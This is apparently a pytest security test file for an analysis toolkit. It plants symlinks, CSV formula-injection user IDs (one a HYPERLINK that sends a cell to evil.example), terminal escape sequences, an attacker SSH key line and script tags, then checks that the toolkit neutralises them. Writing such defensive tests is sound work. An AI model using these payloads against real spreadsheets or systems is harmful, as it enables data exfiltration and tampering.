"""Folders received from someone else, and data written to be read by a spreadsheet or a terminal.

Each case plants what a hostile sender would (a link at a name the toolkit writes, a label with
newlines or escape sequences, a formula as a user id) and checks that nothing outside the folder
the user named is written, and that no CSV cell, Markdown line or terminal byte carries it.
"""

from __future__ import annotations

import csv
import fcntl
import json
import os
import shutil

import numpy as np
import pandas as pd
import pytest
import yaml

from analysis_fixtures import finished_run  # noqa: F401  (fixture)
from factories import minimal_metrics
from hostile import assert_refused, toolkit
from specs import BASE
from toolkit.cli import main
from toolkit.errors import ToolkitError
from toolkit.experiment.run_folder import ResultsFolder

HOSTILE_IDS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)", "-1+2", "+cmd", "id\x1b]0;pwn\x07x"]
ESC_LABEL = "logreg \x1b]0;owned\x07\x1b[2J [bold]big[/bold]"
SECRET = "do not touch\n"


def _error_lines(err: str) -> list[str]:
    return [line for line in err.splitlines() if line.startswith("error:")]


def _outside(tmp_path):
    """A file standing for ~/.bashrc: a planted link points at it; it must keep its content."""
    target = tmp_path / "outside" / "bashrc"
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text(SECRET)
    return target


# --- a finished sweep, copied for each test -------------------------------------------------------------

@pytest.fixture(scope="module")
def sweep(tmp_path_factory):
    """(sweep file, finished sweep folder, results dir, cache dir) of a two-configuration sweep."""
    root = tmp_path_factory.mktemp("outputs")
    (root / "base.yaml").write_text(yaml.safe_dump({**BASE, "evaluation": {"cv": {"folds": 3}, "bootstrap": 200}}))
    grid = {"head": [{"type": "logreg", "C": 1.0}, {"type": "logreg", "C": 0.1}]}
    (root / "sweep.yaml").write_text(yaml.safe_dump({"name": "mini", "base": "base.yaml", "grid": grid}))
    args = ["bench", str(root / "sweep.yaml"), "--quiet", "--results-dir", str(root / "r"), "--cache-dir", str(root / "c")]
    assert main(args) == 0
    return root / "sweep.yaml", next((root / "r" / "mini").iterdir()), root / "r", root / "c"


def _copy(sweep, tmp_path, labels: dict | None = None):
    """A received copy of the sweep folder, its ledger's labels replaced by ``labels`` (config index -> text)."""
    folder = tmp_path / "received"
    shutil.copytree(sweep[1], folder, symlinks=True)
    lines = [json.loads(line) for line in (folder / "ledger.jsonl").read_text().splitlines()]
    for index, label in (labels or {}).items():
        lines[index]["label"] = label
    (folder / "ledger.jsonl").write_text("".join(json.dumps(line) + "\n" for line in lines))
    return folder


def _resume(sweep, folder):
    return ["bench", str(sweep[0]), "--resume", str(folder), "--quiet", "--cache-dir", str(sweep[3])]


def test_bench_resume_replaces_a_planted_link_at_table_md_and_never_writes_through_it(sweep, tmp_path, capsys):
    folder, target = _copy(sweep, tmp_path), _outside(tmp_path)
    for name in ("table.md", "table.csv", "report.html", "pareto.png"):
        (folder / name).unlink()
        (folder / name).symlink_to(target)
    assert main(_resume(sweep, folder)) == 0, capsys.readouterr().err
    assert target.read_text() == SECRET
    for name in ("table.md", "table.csv", "report.html", "pareto.png"):
        assert not (folder / name).is_symlink() and (folder / name).stat().st_size > 0


def test_bench_resume_refuses_a_ledger_that_is_a_link(sweep, tmp_path, capsys):
    folder, target = _copy(sweep, tmp_path), _outside(tmp_path)
    (folder / "ledger.jsonl").unlink()
    (folder / "ledger.jsonl").symlink_to(target)
    assert main(_resume(sweep, folder)) == 2
    err = capsys.readouterr().err
    assert len(_error_lines(err)) == 1 and "ledger.jsonl" in err and "symbolic link" in err, err
    assert target.read_text() == SECRET and not (folder / "configs" / ".scratch").exists()


def test_a_planted_configs_link_leading_outside_the_sweep_is_refused(sweep, tmp_path, capsys):
    folder, target = _copy(sweep, tmp_path), _outside(tmp_path)
    (target.parent / ".c00.partial").mkdir()
    (target.parent / ".c00.partial" / "keep").write_text(SECRET)
    shutil.rmtree(folder / "configs")
    (folder / "configs").symlink_to(target.parent)
    assert main(_resume(sweep, folder)) == 2
    assert len(_error_lines(capsys.readouterr().err)) == 1
    assert (target.parent / ".c00.partial" / "keep").read_text() == SECRET, "a resume deleted files outside the sweep"


def test_a_link_at_results_name_leading_outside_the_results_dir_is_not_followed(sweep, tmp_path, capsys):
    results, target = tmp_path / "r", _outside(tmp_path)
    results.mkdir()
    (results / "mini").symlink_to(target.parent)
    args = ["bench", str(sweep[0]), "--quiet", "--results-dir", str(results), "--cache-dir", str(sweep[3])]
    assert main(args) == 2
    err = capsys.readouterr().err
    assert len(_error_lines(err)) == 1 and "outside" in err, err
    assert sorted(p.name for p in target.parent.iterdir()) == ["bashrc"]
    with pytest.raises(ToolkitError, match="outside"):  # a single run's folder too
        with ResultsFolder(results, "mini"):
            pass
    assert sorted(p.name for p in target.parent.iterdir()) == ["bashrc"]


def test_imbalance_replaces_planted_links_and_keeps_a_newline_label_in_its_cell(sweep, tmp_path, capsys):
    attack = "ok\nssh-ed25519 AAAAC3Nza attacker@host\n![k](/etc/passwd)\n# title"
    folder, target = _copy(sweep, tmp_path, {0: attack}), _outside(tmp_path)
    for name in ("imbalance.md", "imbalance.json"):
        (folder / name).symlink_to(target)
    assert main(["imbalance", str(folder)]) == 0, capsys.readouterr().err
    assert target.read_text() == SECRET
    md = (folder / "imbalance.md").read_text()
    assert not (folder / "imbalance.md").is_symlink() and not (folder / "imbalance.json").is_symlink()
    lines = md.splitlines()
    assert not any(line.startswith(("ssh-", "![", "#")) for line in lines), md
    assert all(line.startswith("|") for line in lines[:4]), md  # header, rule and two rows: one line each
    assert "ssh-ed25519 AAAAC3Nza attacker@host" in lines[2]


def test_table_md_keeps_a_newline_label_in_its_cell(sweep, tmp_path, capsys):
    folder = _copy(sweep, tmp_path, {1: "x\n![k](/etc/passwd)\n<script>alert(1)</script>"})
    assert main(["compare", str(folder), "--out", str(tmp_path / "cmp")]) == 0, capsys.readouterr().err
    md = (tmp_path / "cmp" / "table.md").read_text()
    assert not any(line.startswith(("![", "<")) for line in md.splitlines()), md
    assert "<script>" not in md


def test_hostile_labels_reach_table_csv_as_text_and_never_the_terminal(sweep, tmp_path, capsys):
    folder = _copy(sweep, tmp_path, {0: HOSTILE_IDS[0], 1: ESC_LABEL})
    assert main(["compare", str(folder), "--out", str(tmp_path / "cmp")]) == 0
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "\x07" not in out + err
    with open(tmp_path / "cmp" / "table.csv", newline="", encoding="utf-8") as fh:
        labels = [row["label"] for row in csv.DictReader(fh)]
    assert "'" + HOSTILE_IDS[0] in labels
    assert not any(label.startswith(("=", "+", "-", "@")) or "\x1b" in label for label in labels), labels

    assert main(["imbalance", str(folder)]) == 0  # the Markdown table printed to the terminal
    out, err = capsys.readouterr()
    assert "\x1b" not in out + err and "owned" in out


def test_escape_sequences_in_a_sweep_file_do_not_reach_validate_output(tmp_path, capsys):
    (tmp_path / "base.yaml").write_text(yaml.safe_dump(BASE))
    grid = {"head": [{"type": "logreg", "C": 1.0}, {"type": "nohead\x1b]0;owned\x07", "C": 0.1}]}
    (tmp_path / "s.yaml").write_text(yaml.safe_dump({"name": "mini", "base": "base.yaml", "grid": grid}))
    main(["validate", str(tmp_path / "s.yaml"), "--spec-only"])
    out, err = capsys.readouterr()
    assert "owned" in out + err, out + err  # the label is shown ...
    assert "\x1b" not in out + err and "\x07" not in out + err  # ... but not as an escape sequence


# --- CSV cells --------------------------------------------------------------------------------------------

def _read_back(folder):
    """The contract's reading of a predictions.csv (the folder has no metrics.json to open a record with)."""
    from toolkit.experiment.record import PREDICTIONS_FILE, pivot_predictions, read_predictions

    oof = pivot_predictions(read_predictions(folder / PREDICTIONS_FILE, 2**20), folder / PREDICTIONS_FILE)
    return oof.user_ids, oof.y, oof.scores


def test_user_ids_in_predictions_csv_are_text_to_a_spreadsheet_and_still_pair_runs(tmp_path):
    from toolkit.evaluation.folds import Fold

    ids = np.array(HOSTILE_IDS + ["u6", "-12", "'-1+2"], dtype=object)  # the last neutralises like "-1+2"
    y = np.array([0, 1, 0, 1, 0, 1, 0, 1])
    folds = [Fold(repeat=0, fold=f, train=np.flatnonzero(np.arange(8) % 2 != f), test=np.flatnonzero(np.arange(8) % 2 == f))
             for f in (0, 1)]
    scores = np.linspace(0.1, 0.9, 8)[None, :]
    written = []
    for name in ("a", "b"):
        with ResultsFolder(tmp_path, name) as out:
            out.write_predictions(ids, y, scores, (scores > 0.5).astype(int), folds)
            out.write_json("metrics.json", minimal_metrics(name, y))
        written.append(out.final)
    with open(written[0] / "predictions.csv", newline="", encoding="utf-8") as fh:
        cells = [row[0] for row in csv.reader(fh)][1:]
    assert cells[:4] == ["'" + i for i in HOSTILE_IDS[:4]]
    assert "\x1b" not in cells[4] and "\x07" not in cells[4] and cells[4].startswith("id")
    assert cells[5:7] == ["u6", "-12"]  # plain ids and numbers are left as they are
    assert cells[7] == "'-1+2#2"  # two users never share a row key
    (ids_a, y_a, s_a), (ids_b, _, _) = (_read_back(w) for w in written)
    assert list(ids_a) == list(ids_b) and len(ids_a) == 8  # both runs read back the same users, paired
    by_id = dict(zip(ids_a, s_a[0]))
    assert by_id["'-1+2"] == pytest.approx(scores[0, 2])


def test_predict_out_neutralises_formula_user_ids(tmp_path):
    from toolkit.analysis.predict import write_scores

    table = pd.DataFrame({"user_id": HOSTILE_IDS, "score": [0.1, 0.2, 0.3, 0.4, np.nan],
                          "decision": pd.array([0, 0, 0, 1, pd.NA], dtype="Int64"),
                          "reason": ["", "", "", "", "=1+1 no post"]})
    out = tmp_path / "scores.csv"
    out.symlink_to(_outside(tmp_path))  # a link at --out is replaced, not written through
    write_scores(table, out)
    assert (tmp_path / "outside" / "bashrc").read_text() == SECRET and not out.is_symlink()
    with open(out, newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert [r["user_id"][0] for r in rows[:4]] == ["'"] * 4
    assert "\x1b" not in rows[4]["user_id"] and rows[4]["reason"] == "'=1+1 no post"
    assert rows[0]["score"] == "0.1" and rows[3]["decision"] == "1"  # numbers untouched


# --- explain ----------------------------------------------------------------------------------------------

def _received_run(finished_run, tmp_path):
    folder = tmp_path / "run"
    shutil.copytree(finished_run[0], folder, symlinks=True)
    shutil.rmtree(folder / "explain", ignore_errors=True)
    return folder


def test_explain_refuses_a_planted_explain_link_leading_outside_the_run(finished_run, tmp_path, capsys):
    run, target = _received_run(finished_run, tmp_path), _outside(tmp_path)
    (run / "explain").symlink_to(target.parent)
    result = toolkit("explain", str(run), "--repeats", "2", cwd=tmp_path)
    assert_refused(result, 2, "outside")
    assert sorted(p.name for p in target.parent.iterdir()) == ["bashrc"]


def test_explain_replaces_a_planted_file_link_in_its_folder(finished_run, tmp_path, capsys):
    run, target = _received_run(finished_run, tmp_path), _outside(tmp_path)
    (run / "explain").mkdir()
    for name in ("explain.md", "explain.json", "roc_pr.png"):
        (run / "explain" / name).symlink_to(target)
    assert main(["explain", str(run), "--repeats", "2"]) == 0, capsys.readouterr().err
    assert target.read_text() == SECRET
    for name in ("explain.md", "explain.json", "roc_pr.png"):
        assert not (run / "explain" / name).is_symlink() and (run / "explain" / name).stat().st_size > 0


# --- the sweep lock ---------------------------------------------------------------------------------------

def test_a_second_driver_on_a_locked_sweep_exits_2_naming_the_holder(sweep, tmp_path):
    folder = _copy(sweep, tmp_path)
    fd = os.open(folder / ".lock", os.O_RDWR | os.O_CREAT, 0o644)
    try:
        fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
        os.ftruncate(fd, 0)
        os.write(fd, f"{os.getpid()}\n".encode())
        before = (folder / "ledger.jsonl").read_text()
        result = toolkit(*_resume(sweep, folder), cwd=tmp_path)
        assert_refused(result, 2, f"process {os.getpid()}")
        assert (folder / "ledger.jsonl").read_text() == before
    finally:
        os.close(fd)
    result = toolkit(*_resume(sweep, folder), cwd=tmp_path)  # released: the resume runs
    assert result.rc == 0, result.text
    assert (folder / ".lock").read_text().strip().isdigit()


def test_the_tables_are_written_while_the_sweep_is_still_locked(sweep, tmp_path, monkeypatch):
    # a second driver that got in between the last configuration and the tables would rewrite them
    import toolkit.bench.comparison as comparison

    folder, seen = _copy(sweep, tmp_path), []
    write = comparison.write_outputs

    def probing(out, *args, **kwargs):
        fd = os.open(out / ".lock", os.O_RDWR)
        try:
            fcntl.flock(fd, fcntl.LOCK_EX | fcntl.LOCK_NB)
            seen.append("free")
        except BlockingIOError:
            seen.append("held")
        finally:
            os.close(fd)
        return write(out, *args, **kwargs)

    monkeypatch.setattr(comparison, "write_outputs", probing)
    (folder / "table.md").unlink()
    assert main(_resume(sweep, folder)) == 0
    assert seen == ["held"]
    assert (folder / "table.md").stat().st_size > 0


def test_the_lock_file_is_never_followed_when_it_is_a_link(sweep, tmp_path, capsys):
    folder, target = _copy(sweep, tmp_path), _outside(tmp_path)
    (folder / ".lock").unlink(missing_ok=True)
    (folder / ".lock").symlink_to(target)
    assert main(_resume(sweep, folder)) == 2
    assert len(_error_lines(capsys.readouterr().err)) == 1
    assert target.read_text() == SECRET


def test_terms_and_topic_words_from_data_stay_inside_their_markdown_line():
    from toolkit.analysis.explain import _topic_lines
    from toolkit.analysis.terms import terms_lines as _terms_lines

    bad = "x\n![k](/etc/passwd)\n# owned | cell"
    term = {"term": bad, "coef": 0.5, "users": 3}
    terms = {"model": "logreg", **{d: {"english": [term], "chinese": []} for d in ("retention", "churn")}}
    topic = {"id": 0, "english": [bad], "chinese": [], "users": 3, "rate": 0.5, "ci_low": 0.1, "ci_high": 0.9}
    lines = "\n".join(_terms_lines(terms) + _topic_lines({"n_topics": 1, "rule": "r", "topics": [topic]})).splitlines()
    assert not any(line.startswith(("![", "#")) for line in lines), lines
    assert lines[-1].count(" | ") == 4, lines[-1]  # the "|" in the words did not add a column
